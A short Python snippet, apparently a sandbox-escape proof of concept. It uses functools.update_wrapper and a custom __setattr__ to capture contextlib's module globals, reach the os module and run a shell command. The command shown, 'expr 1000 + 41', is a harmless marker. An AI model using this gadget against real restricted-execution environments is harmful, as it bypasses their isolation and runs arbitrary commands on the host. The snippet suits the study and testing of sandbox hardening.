import functools, contextlib
class O:
    def __setattr__(self, k, v):
        if k == '__globals__': v['os'].system('expr 1000 + 41')
functools.update_wrapper(O(), contextlib.contextmanager, assigned=['__globals__'], updated=())
